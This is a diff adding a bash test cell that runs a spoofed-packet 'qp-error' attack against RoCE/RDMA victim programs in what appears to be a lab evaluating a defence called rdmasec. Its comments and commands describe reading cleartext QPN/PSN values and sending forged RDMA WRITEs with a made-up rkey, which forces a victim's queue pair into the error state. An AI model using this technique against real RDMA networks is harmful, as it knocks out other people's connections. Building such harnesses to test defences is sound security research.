@@ -1,0 +1,62 @@
+# SPDX-License-Identifier: MIT
+# A2 (qp-error): the attacker on host 3 reads one request's BTH off the bridge
+# (destination QPN and PSN are cleartext in every RoCE packet), then sends
+# RDMA WRITEs with an rkey the victim never issued, spoofing the client's
+# address, from the next PSN on (a forward sweep for streaming victims, whose
+# PSN moves on while the attacker works). The one that matches the expected
+# PSN moves the server's QP to the error state.
+# Where the sweep cannot catch a stream that runs as fast as it (ib_send_bw,
+# ucmatose's bulk direction), the cell aims at the victim's other QP, which
+# sits still at a PSN told in clear: ib_send_bw's client (its server never
+# sends a request; the plaintext exchange told the server's PSN) and
+# ucmatose's server (its client sends nothing until it replies; the rdma_cm
+# REP told the server's QPN and the PSN it expects). One packet.
+. "$(dirname "${BASH_SOURCE[0]}")/common.bash"
+
+cell_qp_error() {
+	local v=$1 count=200000 line ap
+	[ "$v" = ucmatose ] && cell_cm_capture_start
+	victim_start "$v" || { matrix_result qp-error "$v" error "" "victim did not start: $(tail -n 1 "$CELL/victim-server.log" 2>/dev/null)"; victim_stop; cell_cm_stop; return; }
+	cell_cm_stop
+	# Streaming victims: a request captured now, so the sweep catches up with the PSN in time.
+	case "$v" in
+	naive | rdmasec) victim_wire_bth ;;
+	# ib_write_bw's client QP waits at the PSN the exchange told: one exact packet.
+	write_bw) victim_exchange && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
+	send_bw) cell_aim_at_client && victim_exchange && WIRE_QPN=$EXCH_QPN WIRE_PSN=$((EXCH_PSN - 1)) ;;
+	ucmatose) cell_aim_at_server && cell_cm_psns && WIRE_QPN=$CM_REP_QPN WIRE_PSN=$((CM_REP_PSN - 1)) ;;
+	*) victim_wire_bth --now ;;
+	esac ||
+		{ matrix_result qp-error "$v" error "" "no RoCE request (or QPN/PSN told in clear) seen"; victim_stop; return; }
+	# These hold still at the next PSN: one exact packet.
+	case "$v" in naive | rdmasec | write_bw | send_bw | ucmatose) count=1 ;; esac
+	fabric on 3 "$ATK" qp-error --dst "$VICTIM_DST_IP" --src "$VICTIM_SRC_IP" --qpn "$WIRE_QPN" \
+		--psn-sweep "$(((WIRE_PSN + 1) & 0xffffff)):$count" --iface fab3 --sport 4242 \
+		--kind rkey --rkey 0x1234 --json >"$CELL/attack.json" 2>"$CELL/attack.err" &
+	ap=$!
+	cell_watch_qp $ap
+	echo "qp-error exit $? (qpn $WIRE_QPN psn $WIRE_PSN)" >&2
+	# ucmatose prints nothing when its QP breaks: rxe's state right after the packet shows it.
+	[ "$v" = ucmatose ] && cell_final_qp_check
+	victim_attack_done
+	victim_wait 12
+	if [ "$v" = rdmasec ]; then
+		line=$(cell_rdmasec_closed_line)
+		if grep -q 'code="queue pair in error state"' <<<"$line"; then
+			matrix_result qp-error "$v" detected \
+				"QP error surfaced as RSEC_E_QP: server logs and counts it, tells the client over TLS; other connections unaffected" \
+				"$line"
+		elif grep -q 'reply: after the attack' "$VICTIM_CLIENT_LOG"; then
+			matrix_result qp-error "$v" error "" "attack missed, connection carried on: $(victim_grep "$VICTIM_CLIENT_LOG" 'reply: after')"
+		else
+			matrix_result qp-error "$v" error "" "no close event: $(tail -n 1 "$VICTIM_SERVER_LOG")"
+		fi
+		return
+	fi
+	# perftest's server and rping wait passively: rxe's QP state shows the kill.
+	if line=$(cell_broken_evidence) || { [ "$v" = ucmatose ] && line=$(cell_ucmatose_broken); }; then
+		matrix_result qp-error "$v" succeeded "" "$line"
+	else
+		matrix_result qp-error "$v" error "" "missed: no QP error while the sweep ran (the PSN moved past it); server's last line: $(tail -n 1 "$VICTIM_SERVER_LOG")"
+	fi
+}
